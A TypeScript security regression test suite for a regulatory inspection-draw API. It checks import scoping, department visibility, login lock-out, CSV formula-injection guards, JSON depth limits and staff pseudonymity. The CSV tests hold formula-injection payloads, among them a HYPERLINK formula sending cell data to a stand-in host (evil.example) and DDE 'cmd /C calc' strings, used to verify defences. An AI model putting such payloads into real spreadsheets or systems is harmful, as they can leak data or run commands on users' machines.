/**
 * The holes the first security probe found, one test each (issue 9), on the engine under test:
 * imports pass the uploader's role and department scope row by row; plan-level routes show a
 * regulator only its department's tasks; parallel guesses cannot beat the login lock-out; a
 * disabled account does not tell a right password from a wrong one; every CSV the project writes
 * is guarded against formula injection; deep or huge JSON is refused before any recursion; public
 * bundles name no staff member; import jobs are their owner's, queued, memory-bounded and expire.
 */
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import type request from 'supertest';
import { ImportAccepted, ImportJobView } from '../../src/http/schemas.ts';
import { waitForImportJob, type ImportJob as Job } from '../helpers/importJobs.ts';
import { expireImportFiles, setImportLimits } from '../../src/services/imports/importJobs.ts';
import * as plans from '../../src/services/plans.ts';
import * as draws from '../../src/services/draws.ts';
import * as registry from '../../src/services/registry.ts';
import { disableUser, login } from '../../src/services/accounts.ts';
import { MAX_JSON_DEPTH, MAX_JSON_ITEMS } from '../../src/http/middleware.ts';
import { seedDrawRegistry, type DrawRegistry } from '../helpers/drawRegistry.ts';
import { testDialect } from '../helpers/db.ts';
import { startApi, expectError, TEST_PASSWORD, type Agent, type Api } from './support.ts';
import { addUser } from '../../src/services/accounts.ts';

let api: Api;
let reg: DrawRegistry;
/** Regulators of the owner department (SCJG) and of another one (SW). */
let scjg: Agent;
let sw: Agent;

const csv = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf8');

beforeAll(async () => {
  api = await startApi();
  reg = await seedDrawRegistry(api.db.db, { objects: 160 });
  scjg = await api.as('reg-scjg', 'regulator', { department: 'SCJG' });
  sw = await api.as('reg-sw', 'regulator', { department: 'SW' });
});
afterAll(async () => {
  setImportLimits({});
  await api?.db.destroy();
});
afterEach(() => {
  vi.useRealTimers();
});

async function upload(agent: Agent, kind: string, body: Buffer, query: Record<string, string> = {}): Promise<request.Response> {
  const qs = new URLSearchParams({ filename: `${kind}.csv`, ...query }).toString();
  return agent.post(`/api/v1/${kind}/import?${qs}`).set('Content-Type', 'text/csv').send(body);
}

async function importAndWait(agent: Agent, kind: string, body: Buffer, query: Record<string, string> = {}, timeout = 60_000): Promise<Job> {
  const res = await upload(agent, kind, body, query);
  expect(res.status, JSON.stringify(res.body)).toBe(202);
  return waitForImportJob(agent, ImportAccepted.parse(res.body).statusUrl, { timeout });
}

describe(`hole 1: imports pass the same role and scope as single records (${testDialect})`, () => {
  it('the single-record route and the file import refuse the same out-of-scope inspector', async () => {
    const officer = reg.officers.scjg[0];
    expectError(await sw.patch(`/api/v1/inspectors/${officer}`).send({ status: 'left', yearlyCapacity: 1 }), 403, 'OUT_OF_SCOPE');
    const job = await importAndWait(sw, 'inspectors', csv(`执法证号,姓名,所属部门,状态,年度检查容量\n${officer},监管1,SCJG,离岗,1\n`));
    expect(job.status).toBe('failed');
    expect(job.error?.code).toBe('IMPORT_REJECTED');
    expect(job.report?.problems).toEqual([expect.objectContaining({ row: 2, code: 'OUT_OF_SCOPE' })]);
    const stored = (await api.http.get(`/api/v1/inspectors/${officer}`)).body;
    expect(stored).toMatchObject({ status: 'active', yearlyCapacity: 40 });
  });

  it('a strict file with one out-of-scope row writes nothing and names each such row; skipInvalid writes the rest', async () => {
    const body = csv(
      `执法证号,姓名,所属部门,年度检查容量\n${reg.officers.sw[0]},税务1,SW,11\n${reg.officers.scjg[1]},监管2,SCJG,2\n${reg.officers.sw[1]},税务2,SCJG,3\n`,
    );
    const strict = await importAndWait(sw, 'inspectors', body);
    expect(strict.status).toBe('failed');
    expect(strict.report?.problems.map((p) => [p.row, p.code, p.column])).toEqual([
      [3, 'OUT_OF_SCOPE', '执法证号'],
      [4, 'OUT_OF_SCOPE', '所属部门'],
    ]);
    expect((await api.http.get(`/api/v1/inspectors/${reg.officers.sw[0]}`)).body.yearlyCapacity).toBe(60);
    const lenient = await importAndWait(sw, 'inspectors', body, { skipInvalid: 'true' });
    expect(lenient).toMatchObject({ status: 'succeeded', updated: 1, rejected: 2 });
    expect((await api.http.get(`/api/v1/inspectors/${reg.officers.sw[0]}`)).body.yearlyCapacity).toBe(11);
    expect((await api.http.get(`/api/v1/inspectors/${reg.officers.sw[1]}`)).body.departmentCode).toBe('SW');
  });

  it('matters, conflicts and past inspections of another department are refused row by row', async () => {
    const matter = await importAndWait(sw, 'matters', csv('事项编码,部门,事项名称,事项类别\nSCJG-01,SCJG,被改掉的名称,重点\n'));
    expect(matter.report?.problems).toEqual([expect.objectContaining({ row: 2, code: 'OUT_OF_SCOPE' })]);
    expect((await api.http.get('/api/v1/matters/SCJG-01')).body.name).toBe('企业公示信息抽查');
    const conflict = await importAndWait(sw, 'conflicts', csv(`执法证号,统一社会信用代码,回避原因\n${reg.officers.scjg[2]},${reg.usccs[0]},虚构的回避\n`));
    expect(conflict.report?.problems).toEqual([expect.objectContaining({ row: 2, code: 'OUT_OF_SCOPE' })]);
    const inspection = await importAndWait(sw, 'inspections', csv(`统一社会信用代码,检查日期,检查部门,检查结果\n${reg.usccs[1]},2026-05-05,SCJG,1\n`));
    expect(inspection.report?.problems).toEqual([expect.objectContaining({ row: 2, code: 'OUT_OF_SCOPE' })]);
    // The regulator's own department's rows pass.
    const own = await importAndWait(sw, 'inspections', csv(`统一社会信用代码,检查日期,检查部门,检查结果\n${reg.usccs[1]},2026-05-05,SW,1\n`));
    expect(own).toMatchObject({ status: 'succeeded', inserted: 1 });
  });

  it('departments and past violations are imported by administrators only, as the single routes allow', async () => {
    const departments = csv('部门代码,部门名称\nSCJG,被改名的部门\n');
    expectError(await sw.post('/api/v1/departments').send({ code: 'SCJG', name: '被改名的部门' }), 403, 'FORBIDDEN_ROLE');
    expectError(await upload(sw, 'departments', departments), 403, 'FORBIDDEN_ROLE');
    expectError(await upload(sw, 'violations', csv(`统一社会信用代码,违法日期,违法类型\n${reg.usccs[2]},2026-01-01,虚构\n`)), 403, 'FORBIDDEN_ROLE');
    expect((await api.http.get('/api/v1/departments')).body.items.find((d: { code: string }) => d.code === 'SCJG').name).toBe('渝中区市场监督管理局');
    const admin = await importAndWait(api.http, 'departments', csv('部门代码,部门名称\nSCJG,渝中区市场监督管理局\n'));
    expect(admin.status).toBe('succeeded');
  });
});

describe(`hole 11: an import job is its owner's, queued, bounded and kept for a while (${testDialect})`, () => {
  it('shows a job and its files only to its owner and to administrators', async () => {
    const job = await importAndWait(scjg, 'inspectors', csv(`执法证号,姓名,所属部门,年度检查容量\n${reg.officers.scjg[3]},监管4,SCJG,abc\n`), { skipInvalid: 'true' });
    expect(job.report?.rejectsUrl).toBeTruthy();
    const other = await api.as('reg-scjg-2', 'regulator', { department: 'SCJG' });
    for (const agent of [sw, other]) {
      expectError(await agent.get(`/api/v1/imports/${job.id}`), 404, 'IMPORT_JOB_NOT_FOUND');
      expectError(await agent.get(`/api/v1/imports/${job.id}/report`), 404, 'IMPORT_JOB_NOT_FOUND');
      expectError(await agent.get(`/api/v1/imports/${job.id}/rejects`), 404, 'IMPORT_JOB_NOT_FOUND');
    }
    expect((await scjg.get(`/api/v1/imports/${job.id}/rejects`)).status).toBe(200);
    expect((await api.http.get(`/api/v1/imports/${job.id}`)).status).toBe(200);
  });

  it('deletes report and rejects files after the retention period', async () => {
    const job = await importAndWait(scjg, 'inspectors', csv(`执法证号,姓名,所属部门,年度检查容量\n${reg.officers.scjg[4]},监管5,SCJG,abc\n`), { skipInvalid: 'true' });
    expect((await scjg.get(`/api/v1/imports/${job.id}/report`)).status).toBe(200);
    const expired = await expireImportFiles(api.db.db, new Date(Date.now() + 100 * 3600 * 1000), 72);
    expect(expired).toContain(job.id);
    expectError(await scjg.get(`/api/v1/imports/${job.id}/report`), 404, 'IMPORT_FILES_EXPIRED');
    const view = ImportJobView.parse((await scjg.get(`/api/v1/imports/${job.id}`)).body);
    expect(view.filesExpiredAt).not.toBeNull();
    expect(view.report?.reportUrl).toBeNull();
  });

  it('runs at most the configured number of imports at once; the others wait queued', async () => {
    setImportLimits({ concurrency: 1 });
    try {
      // Thousands of rows, the last one invalid (strict: nothing is written): long enough a job that
      // the next uploads arrive while it runs, now that a job no longer waits for a thread to start.
      const rows = Array.from({ length: 3000 }, (_, i) => `5001030390${String(i).padStart(4, '0')},新增${i},SCJG,40`);
      const body = csv(`执法证号,姓名,所属部门,年度检查容量\n${rows.join('\n')}\n500103039999,无部门,NOPE,40\n`);
      const urls: string[] = [];
      for (let i = 0; i < 3; i++) urls.push(ImportAccepted.parse((await upload(scjg, 'inspectors', body)).body).statusUrl);
      let mostRunning = 0;
      let sawQueued = false;
      const ids = urls.map((u) => u.split('/').pop()!);
      // The jobs run in worker threads: watch them until all have ended.
      await vi.waitFor(
        async () => {
          // One query: a consistent snapshot (requests one after the other could see a job that just
          // finished and the next one that just started both 'running').
          const jobs = await api.db.db.selectFrom('import_jobs').select('status').where('id', 'in', ids).execute();
          mostRunning = Math.max(mostRunning, jobs.filter((j) => j.status === 'running').length);
          sawQueued ||= jobs.some((j) => j.status === 'queued') && jobs.some((j) => j.status === 'running');
          expect(jobs.map((j) => j.status).filter((st) => st !== 'succeeded' && st !== 'failed'), 'jobs not yet ended').toEqual([]);
        },
        { timeout: 90_000, interval: 20 },
      );
      expect(mostRunning).toBe(1);
      expect(sawQueued).toBe(true);
    } finally {
      setImportLimits({});
    }
  });

  // A 600,000-row file parsed until the heap cap stops it: slow on a shared two-core machine.
  it('a file that needs more than the memory limit fails alone with a clear error; the server keeps answering', async () => {
    setImportLimits({ memoryMb: 96 });
    try {
      const lines = ['统一社会信用代码,检查日期,检查部门,检查结果,任务编号'];
      for (let i = 0; i < 600_000; i++) lines.push(`${reg.usccs[i % reg.usccs.length]},2026-05-${String((i % 28) + 1).padStart(2, '0')},SCJG,1,T-${i}-${'x'.repeat(40)}`);
      const job = await importAndWait(scjg, 'inspections', csv(lines.join('\n')), {}, 200_000);
      expect(job.status).toBe('failed');
      expect(job.error?.code).toBe('IMPORT_TOO_LARGE');
      expect(job.error?.message).toContain('96 MB');
      expect((await api.anonymous.get('/healthz')).status).toBe(200);
      const count = await api.db.db.selectFrom('past_inspections').select((eb) => eb.fn.countAll().as('n')).where('task_ref', 'like', 'T-%').executeTakeFirstOrThrow();
      expect(Number(count.n)).toBe(0);
    } finally {
      setImportLimits({});
    }
  }, 240_000);
});

describe(`hole 2: plan-level routes show a regulator only its department's tasks (${testDialect})`, () => {
  // SW-01 is a general matter capped at 5%: the joint tasks stay under it.
  const high = { A: '0.2', B: '0.2', C: '0.3', D: '0.5', U: '0.2' };
  const low = { A: '0.03', B: '0.035', C: '0.05', D: '0.1', U: '0.04' };
  const taskOf = (partners: { code: string; officersPerTeam: number }[], matters: string[], rates = partners.length ? low : high) => ({
    lead: { code: 'SCJG', officersPerTeam: 2 },
    partners,
    matters,
    selection: { mode: 'rates', rates },
    window: { start: '2026-12-07', end: '2026-12-25' },
    randomnessSource: '2026年12月1日中国福利彩票双色球开奖号码',
  });
  let planId: string;
  let own: plans.TaskView;
  let joint: plans.TaskView;
  let draft: plans.TaskView;

  beforeAll(async () => {
    const a = { name: 'zhang' };
    const b = { name: 'li' };
    planId = (await plans.createPlan(api.db.db, { organization: 'SCJG', year: 2026 }, a)).id;
    own = await plans.createTask(api.db.db, planId, taskOf([], ['SCJG-01']), a);
    joint = await plans.createTask(api.db.db, planId, taskOf([{ code: 'SW', officersPerTeam: 1 }], ['SCJG-01', 'SW-01']), a);
    for (const t of [own, joint]) {
      await plans.approveTask(api.db.db, t.id, b);
      const c = await plans.commitTask(api.db.db, t.id, b);
      await draws.seedDraw(api.db.db, c.drawId!, `${t.id.slice(0, 4)} 07 12 19 25 30 33`, b);
      await plans.drawTask(api.db.db, t.id, b);
    }
    draft = await plans.createTask(api.db.db, planId, taskOf([], ['SCJG-01']), a);
    await plans.createTask(api.db.db, planId, taskOf([{ code: 'SW', officersPerTeam: 1 }], ['SCJG-01', 'SW-01']), a);
  });

  it('the other department may not read the SCJG-only task itself', async () => {
    expectError(await sw.get(`/api/v1/tasks/${own.id}`), 404, 'TASK_NOT_FOUND');
    expectError(await sw.get(`/api/v1/tasks/${draft.id}`), 404, 'TASK_NOT_FOUND');
  });

  it('nor its visits through the plan: only the joint task, its matters and its drawn officers', async () => {
    const mine = (await sw.get(`/api/v1/plans/${planId}/visits`)).body as { items: { uscc: string; tasks: string[]; matters: string[]; team: string[] }[] };
    const all = (await api.http.get(`/api/v1/plans/${planId}/visits`)).body as typeof mine;
    expect(all.items.some((v) => v.tasks.includes(own.id))).toBe(true);
    const text = JSON.stringify(mine);
    expect(text).not.toContain(own.id);
    const jointSelections = await draws.drawSelections(api.db.db, (await plans.getTask(api.db.db, joint.id)).drawId!);
    const teamOf = new Map(jointSelections.map((s) => [s.uscc, s.team]));
    expect(mine.items.length).toBe(jointSelections.length);
    for (const v of mine.items) {
      expect(v.tasks).toEqual([joint.id]);
      expect(new Set(v.team)).toEqual(new Set(teamOf.get(v.uscc)));
    }
    // Entities only the SCJG-only task drew are not there at all.
    const ownOnly = all.items.filter((v) => v.tasks.length === 1 && v.tasks[0] === own.id).map((v) => v.uscc);
    expect(ownOnly.length).toBeGreaterThan(0);
    for (const u of ownOnly) expect(text).not.toContain(u);
    // The plan and its task list agree.
    const plan = JSON.stringify((await sw.get(`/api/v1/plans/${planId}`)).body);
    const list = JSON.stringify((await sw.get('/api/v1/plans')).body);
    const tasks = JSON.stringify((await sw.get(`/api/v1/plans/${planId}/tasks`)).body);
    for (const body of [plan, list, tasks]) {
      expect(body).not.toContain(own.id);
      expect(body).not.toContain(draft.id);
      expect(body).not.toContain(draft.name);
    }
  });

  it('nor the draft task through the plan or task simulation', async () => {
    const all = JSON.stringify((await api.http.get(`/api/v1/plans/${planId}/simulation?entities=true&limit=5000`)).body);
    expect(all).toContain(draft.id);
    for (const url of [`/api/v1/plans/${planId}/simulation?entities=true&limit=5000`, `/api/v1/tasks/${joint.id}/simulation?entities=true`]) {
      const res = await sw.get(url);
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      const text = JSON.stringify(res.body);
      expect(text).not.toContain(draft.id);
      expect(text).not.toContain(draft.name);
      expect((res.body.perTask as { id: string }[]).map((p) => p.id)).not.toContain(draft.id);
    }
  });
});

describe(`holes 3 and 4: the login lock-out (${testDialect})`, () => {
  it('holds against 40 parallel wrong passwords: only the free attempts are checked, the rest get 429', async () => {
    await addUser(api.db.db, { username: 'target', role: 'reviewer', password: TEST_PASSWORD });
    // The wall clock stands still (only Date is faked): every guess arrives at the same instant,
    // and the lock's end is reached by moving the clock, not by waiting for it.
    const startedAt = '2026-03-02T01:00:00.000Z';
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date(startedAt));
    const replies = await Promise.all(
      Array.from({ length: 40 }, (_, i) => api.anonymous.post('/api/v1/auth/login').send({ username: 'target', password: `wrong guess ${i}` })),
    );
    const statuses = replies.map((r) => r.status);
    const checked = statuses.filter((s) => s === 401).length;
    expect(statuses.every((s) => s === 401 || s === 429)).toBe(true);
    expect(checked).toBeLessThanOrEqual(4);
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(36);
    const row = await api.db.db.selectFrom('users').select(['failed_logins', 'locked_until']).where('username', '=', 'target').executeTakeFirstOrThrow();
    expect(row.failed_logins).toBe(checked);
    // Locked from the last checked attempt on, for seconds.
    expect(row.locked_until! > startedAt).toBe(true);
    // Locked: even the right password waits, until the lock ends.
    const right = () => api.anonymous.post('/api/v1/auth/login').send({ username: 'target', password: TEST_PASSWORD });
    vi.setSystemTime(Date.parse(row.locked_until!) - 1);
    expectError(await right(), 429, 'LOGIN_THROTTLED');
    vi.setSystemTime(Date.parse(row.locked_until!));
    const after = await right();
    expect(after.status, JSON.stringify(after.body)).toBe(200);
  });

  it('a disabled account answers the right and a wrong password alike', async () => {
    await addUser(api.db.db, { username: 'gone', role: 'reviewer', password: TEST_PASSWORD });
    await disableUser(api.db.db, 'gone');
    const right = await api.anonymous.post('/api/v1/auth/login').send({ username: 'gone', password: TEST_PASSWORD });
    const wrong = await api.anonymous.post('/api/v1/auth/login').send({ username: 'gone', password: 'not the password' });
    expectError(right, 401, 'INVALID_CREDENTIALS');
    expectError(wrong, 401, 'INVALID_CREDENTIALS');
    expect(right.body).toEqual(wrong.body);
  });
});

describe(`hole 5: no CSV the project writes carries a live formula (${testDialect})`, () => {
  const hostile = {
    name: '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    legalRepresentative: '@SUM(1+1)*cmd|\' /C calc\'!A0',
    address: '-2+3+cmd|\' /C calc\'!A0',
  };
  const code = () => reg.usccs[10];

  /** The cells of a CSV body (quotes handled by a real parser). */
  async function cells(text: string): Promise<string[][]> {
    const { parse } = await import('csv-parse/sync');
    return parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
  }

  it('the staff export guards names, legal representatives and addresses, and re-imports them unchanged', async () => {
    await registry.updateObject(api.db.db, code(), { ...hostile, street: '+86 解放碑' }, { name: 'test' });
    const res = await api.http.get('/api/v1/objects/export?format=csv').buffer(true).parse((r, done) => {
      const chunks: Buffer[] = [];
      r.on('data', (c: Buffer) => chunks.push(c));
      r.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
    });
    const rows = await cells(res.body as string);
    const row = rows.find((r) => r[0] === code())!;
    expect(row).toBeDefined();
    for (const value of Object.values(hostile)) expect(row).toContain(`'${value}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // What the project wrote, it reads back as it was.
    const file = path.join(process.env.IMPORT_DIR!, 'roundtrip.csv');
    fs.writeFileSync(file, res.body as string);
    const job = await importAndWait(api.http, 'objects', fs.readFileSync(file));
    expect(job.status).toBe('succeeded');
    expect((await api.http.get(`/api/v1/objects/${code()}`)).body).toMatchObject({ ...hostile, street: '+86 解放碑' });
  });

  it('import reports and rejects files guard the cells they copy', async () => {
    const job = await importAndWait(api.http, 'inspectors', csv(`执法证号,姓名,所属部门,年度检查容量\n=cmd|' /C calc'!A0,=1+1,@SUM(1),-2+3\n`), { skipInvalid: 'true' });
    for (const url of [job.report!.rejectsUrl!, job.report!.reportUrl!]) {
      const text = (await api.http.get(url)).text;
      const all = (await cells(text)).flat();
      expect(all.length).toBeGreaterThan(4);
      for (const cell of all) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('hole 6: deep or huge JSON is refused before any recursion', () => {
  it('10,000 nested brackets to the public login: 400 naming the depth limit, not 500', async () => {
    const res = await api.anonymous.post('/api/v1/auth/login').set('Content-Type', 'application/json').send('['.repeat(10_000) + ']'.repeat(10_000));
    const p = expectError(res, 400, 'JSON_TOO_DEEP', 'body', 'JSON_TOO_DEEP');
    expect(p!.message).toContain(String(MAX_JSON_DEPTH));
    expect(api.logs.filter((l) => l.level >= 50)).toEqual([]);
  });

  it('60,000 keys: 400 naming the limit', async () => {
    const body = `{${Array.from({ length: 60_000 }, (_, i) => `"k${i}":1`).join(',')}}`;
    const res = await api.anonymous.post('/api/v1/auth/login').set('Content-Type', 'application/json').send(body);
    const p = expectError(res, 400, 'JSON_TOO_MANY_ITEMS', 'body', 'JSON_TOO_MANY_ITEMS');
    expect(p!.message).toContain(String(MAX_JSON_ITEMS));
  });

  it('brackets inside strings do not count, and an ordinary body still works', async () => {
    const res = await api.anonymous.post('/api/v1/auth/login').send({ username: '['.repeat(60), password: '{'.repeat(100) });
    expectError(res, 401, 'INVALID_CREDENTIALS');
  });
});

describe(`hole 9: public bundles name no staff member (${testDialect})`, () => {
  it('seededBy and voided.by are pseudonymous staff ids in the public bundle, names in the auditors’ one', async () => {
    const params = {
      task: 'bundle-names',
      year: 2026,
      window: { start: '2026-12-07', end: '2026-12-25' },
      selection: { mode: 'rates', rates: { A: '0.1', B: '0.1', C: '0.1', D: '0.1', U: '0.1' } },
      matters: ['SCJG-01'],
      departments: [{ code: 'SCJG', officersPerTeam: 2 }],
      randomnessSource: '2026年12月1日中国福利彩票双色球开奖号码',
    };
    const d = await draws.commitDraw(api.db.db, params, { name: '张三丰' });
    await draws.seedDraw(api.db.db, d.id, '01 02 03', { name: '李娜' });
    await draws.runDraw(api.db.db, d.id, { name: '李娜' });
    await draws.voidDraw(api.db.db, d.id, '演示作废的理由', { name: '王五' });
    const pub = (await api.anonymous.get(`/api/v1/draws/${d.id}/bundle`)).body;
    const text = JSON.stringify(pub);
    for (const name of ['张三丰', '李娜', '王五']) expect(text).not.toContain(name);
    expect(pub.draw.seededBy).toMatch(/^staff-[0-9a-f]{12}$/);
    expect(pub.draw.voided.by).toMatch(/^staff-[0-9a-f]{12}$/);
    expect(pub.draw.voided.by).not.toBe(pub.draw.seededBy);
    const full = await draws.exportBundle(api.db.db, d.id, 'full');
    expect(full.draw.seededBy).toBe('李娜');
    expect(full.draw.voided?.by).toBe('王五');
  });
});
